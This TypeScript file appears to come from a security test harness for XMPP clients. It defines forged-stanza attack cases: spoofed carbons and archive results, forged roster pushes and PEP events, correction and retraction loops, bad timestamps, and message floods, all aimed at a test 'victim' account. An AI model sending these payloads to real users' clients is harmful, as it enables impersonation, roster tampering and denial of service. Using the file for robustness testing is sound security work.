/**
 * Attack classes of forged stanzas: carbons, archive results, pushes, PEP events, corrections, retractions, timestamps
 * (findings 8 to 10).
 */
import type { Attack, Scene } from "../attack.ts";
import { id, times, toRoom, toVictim } from "./xml.ts";

const PUBSUB_EVENT = "http://jabber.org/protocol/pubsub#event";

const STAMP = `<delay xmlns="urn:xmpp:delay" stamp="2026-01-01T00:00:00Z"/>`;

const forwarded = (inner: string): string => `<forwarded xmlns="urn:xmpp:forward:0">${STAMP}${inner}</forwarded>`;
const fromFriend = ({ friend, victim }: Scene, content: string): string =>
  `<message xmlns="jabber:client" from="${friend}/home" to="${victim.jid}" id="${id()}">${content}</message>`;
const attributes = times(101, (at) => `a${at}="1" `);

/** A pubsub event of a node, sent as if by a server. */
const event = (scene: Scene, node: string, payload: string): void => {
  for (const to of [scene.victim.jid, scene.victim.full]) {
    const items = `<items node="${node}"><item id="current">${payload}</item></items>`;
    scene.write(`<message to="${to}" type="headline"><event xmlns="${PUBSUB_EVENT}">${items}</event></message>`);
  }
};

export const forged: Attack[] = [
  ...(["received", "sent"] as const).map((kind): Attack => ({
    name: `forged carbons, ${kind}, 300 of them`,
    where: "direct message",
    send: (scene) => {
      for (let count = 0; count < 300; count++) {
        toVictim(
          scene,
          `<${kind} xmlns="urn:xmpp:carbons:2">${forwarded(
            fromFriend(scene, `<body>forged ${count}</body>`),
          )}</${kind}>`,
        );
      }
    },
  })),
  {
    name: "a carbon in a carbon, a hundred deep",
    where: "direct message",
    send: (scene) => {
      let inner = fromFriend(scene, "<body>deep</body>");
      for (let depth = 0; depth < 60; depth++) {
        inner = fromFriend(scene, `<received xmlns="urn:xmpp:carbons:2">${forwarded(inner)}</received>`);
      }
      toVictim(scene, `<received xmlns="urn:xmpp:carbons:2">${forwarded(inner)}</received>`);
    },
  },
  {
    name: "forged archive results, 300 of them",
    where: "archive page",
    send: (scene) => {
      for (let count = 0; count < 300; count++) {
        scene.write(
          `<message to="${scene.victim.full}"><result xmlns="urn:xmpp:mam:2" queryid="${count}" id="${count}">${forwarded(
            fromFriend(scene, `<body>forged</body><x xmlns="urn:evil" ${attributes}/>`),
          )}</result></message>`,
        );
      }
    },
  },
  {
    name: "archived messages with 101 attributes, between a friend's, fifty of them",
    where: "archive page",
    send: (scene) => {
      for (let count = 0; count < 50; count++) {
        toVictim(scene, `<body>poison ${count}</body><x xmlns="urn:evil" ${attributes}/>`);
      }
    },
  },
  {
    name: "forged roster pushes, 500 of them",
    where: "IQ",
    send: ({ write, victim }) => {
      for (let count = 0; count < 500; count++) {
        const item = `<item jid="evil${count}@localhost" subscription="both" name="Bob"/>`;
        write(`<iq type="set" id="${id()}" to="${victim.full}"><query xmlns="jabber:iq:roster">${item}</query></iq>`);
      }
    },
  },
  ...[
    "urn:xmpp:bookmarks:1",
    "urn:xmpp:mds:displayed:0",
    "storage:bookmarks",
    "eu.siacs.conversations.axolotl.devicelist",
    "urn:xmpp:avatar:metadata",
    "http://jabber.org/protocol/nick",
  ].map((node): Attack => ({
    name: `forged PEP events of ${node}`,
    where: "PEP",
    send: (scene) => {
      event(scene, node, `<conference xmlns="urn:xmpp:bookmarks:1" autojoin="true"><nick>x</nick></conference>`);
      event(
        scene,
        node,
        `<list xmlns="eu.siacs.conversations.axolotl">${times(2_000, (at) => `<device id="${at + 1}"/>`)}</list>`,
      );
      event(scene, node, `<x xmlns="urn:evil" ${attributes}/>`);
    },
  })),
  {
    name: "a correction that replaces itself, and two that replace each other",
    where: "direct message",
    send: (scene) => {
      toVictim(
        scene,
        `<body>self</body><replace xmlns="urn:xmpp:message-correct:0" id="self"/>`,
        `type="chat" id="self"`,
      );
      toVictim(scene, `<body>one</body><replace xmlns="urn:xmpp:message-correct:0" id="two"/>`, `type="chat" id="one"`);
      toVictim(scene, `<body>two</body><replace xmlns="urn:xmpp:message-correct:0" id="one"/>`, `type="chat" id="two"`);
    },
  },
  {
    name: "a chain of 500 corrections",
    where: "direct message",
    send: (scene) => {
      const run = id();
      toVictim(scene, "<body>first</body>", `type="chat" id="${run}0"`);
      for (let count = 1; count <= 500; count++) {
        toVictim(
          scene,
          `<body>${count}</body><replace xmlns="urn:xmpp:message-correct:0" id="${run}${count - 1}"/>`,
          `type="chat" id="${run}${count}"`,
        );
      }
    },
  },
  {
    name: "a correction of one message 500 times",
    where: "room message",
    send: (scene) => {
      const run = id();
      toRoom(scene, "<body>first</body>", `id="${run}"`);
      for (let count = 1; count <= 500; count++) {
        toRoom(scene, `<body>${count}</body><replace xmlns="urn:xmpp:message-correct:0" id="${run}"/>`);
      }
    },
  },
  {
    name: "500 reactions to unknown messages, with 50 emoji each",
    where: "direct message",
    send: (scene) => {
      const emoji = times(50, (at) => `<reaction>${String.fromCodePoint(0x1f600 + at)}</reaction>`);
      for (let count = 0; count < 500; count++) {
        toVictim(scene, `<reactions xmlns="urn:xmpp:reactions:0" id="none${count}">${emoji}</reactions>`);
      }
    },
  },
  {
    name: "one stanza with 5,000 reactions",
    where: "room message",
    send: (scene) =>
      toRoom(
        scene,
        `<reactions xmlns="urn:xmpp:reactions:0" id="none">${times(
          5_000,
          (at) => `<reaction>${String.fromCodePoint(0x1f600 + (at % 80))}</reaction>`,
        )}</reactions>`,
      ),
  },
  {
    name: "500 retractions of messages of others",
    where: "room message",
    send: (scene) => {
      for (let count = 0; count < 500; count++) {
        toRoom(scene, `<retract xmlns="urn:xmpp:message-retract:1" id="none${count}"/><body>/me retracts</body>`);
      }
    },
  },
  {
    name: "a retraction of itself, and of a forged archive id",
    where: "direct message",
    send: (scene) => {
      toVictim(scene, `<retract xmlns="urn:xmpp:message-retract:1" id="me"/>`, `type="chat" id="me"`);
      toVictim(scene, `<body>hello</body><stanza-id xmlns="urn:xmpp:sid:0" by="${scene.victim.jid}" id="same"/>`);
      toVictim(scene, `<body>hello</body><stanza-id xmlns="urn:xmpp:sid:0" by="${scene.victim.jid}" id="same"/>`);
    },
  },
  {
    name: "stamps of the year 0, 9999, and none",
    where: "direct message",
    send: (scene) => {
      for (const stamp of [
        "0000-01-01T00:00:00Z",
        "9999-12-31T23:59:59Z",
        "+275760-09-13T00:00:01Z",
        "-1",
        "",
        "x".repeat(50_000),
      ]) {
        for (const from of ["localhost", scene.victim.jid, "conference.localhost"]) {
          toVictim(scene, `<body>hello</body><delay xmlns="urn:xmpp:delay" from="${from}" stamp="${stamp}"/>`);
        }
      }
    },
  },
  {
    name: "stamps of the year 9999 in the room",
    where: "room history",
    send: (scene) => {
      for (const from of [scene.room, "conference.localhost"]) {
        toRoom(scene, `<body>hello</body><delay xmlns="urn:xmpp:delay" from="${from}" stamp="9999-12-31T23:59:59Z"/>`);
      }
    },
  },
  {
    name: "receipts, markers and chat states for nothing, 900 of them",
    where: "direct message",
    send: (scene) => {
      for (let count = 0; count < 300; count++) {
        toVictim(scene, `<received xmlns="urn:xmpp:receipts" id="none${count}"/>`);
        toVictim(scene, `<displayed xmlns="urn:xmpp:chat-markers:0" id="none${count}"/>`);
        toVictim(scene, `<composing xmlns="http://jabber.org/protocol/chatstates"/>`);
      }
    },
  },
];
